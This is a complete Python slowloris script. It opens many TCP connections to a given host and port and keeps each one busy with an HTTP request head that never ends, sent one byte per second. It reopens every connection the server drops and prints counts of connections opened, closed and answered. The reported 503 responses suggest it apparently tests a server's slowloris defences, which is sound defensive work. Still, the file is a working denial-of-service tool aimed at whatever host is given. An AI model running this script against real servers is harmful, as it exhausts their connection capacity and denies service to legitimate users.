#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A slowloris: keeps N connections to HOST:PORT, each sending a request
head that never ends ("GET /healthz HTTP/1.1\\r\\nX-a: " and then one byte
a second), and opens a new one for each the server closes, as an attacker
would; for SECS seconds (default 30) or until SIGTERM.

    slowloris.py HOST:PORT N [SECS]

Prints "open N" once the first N are connected, and at the end
"opened K closed C answered A": connections opened in all, closed by the
server, and how many of those closes came with a response (a 503)."""
import select
import signal
import socket
import sys
import time

HEAD = b"GET /healthz HTTP/1.1\r\nX-a: "


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    n = int(sys.argv[2])
    secs = float(sys.argv[3]) if len(sys.argv) > 3 else 30.0
    stats = {"opened": 0, "closed": 0, "answered": 0}
    stop = []  # set by SIGTERM; checked between steps so that the counts get printed
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))

    def open_one():
        s = socket.create_connection((host, int(port)), timeout=5)
        s.setblocking(False)
        s.send(HEAD)
        stats["opened"] += 1
        return s

    socks = [open_one() for _ in range(n)]
    print("open %d" % n, flush=True)
    deadline = time.monotonic() + secs
    try:
        while not stop and time.monotonic() < deadline:
            tick = time.monotonic() + 1
            while not stop and time.monotonic() < tick:
                time.sleep(0.05)
            poller = select.poll()  # select() stops at descriptor 1024
            for s in socks:
                poller.register(s, select.POLLIN)
            readable = {fd for fd, _ in poller.poll(0)}
            for i, s in enumerate(socks):
                if stop:
                    break
                closed = False
                if s.fileno() in readable:
                    try:
                        data = s.recv(4096)
                        closed = True
                        stats["answered"] += bool(data)
                    except OSError:
                        closed = True
                if not closed:
                    try:
                        s.send(b"a")
                    except OSError:
                        closed = True
                if closed:
                    stats["closed"] += 1
                    s.close()
                    socks[i] = open_one()
    finally:
        for s in socks:
            s.close()
        print("opened %(opened)d closed %(closed)d answered %(answered)d" % stats, flush=True)


if __name__ == "__main__":
    main()
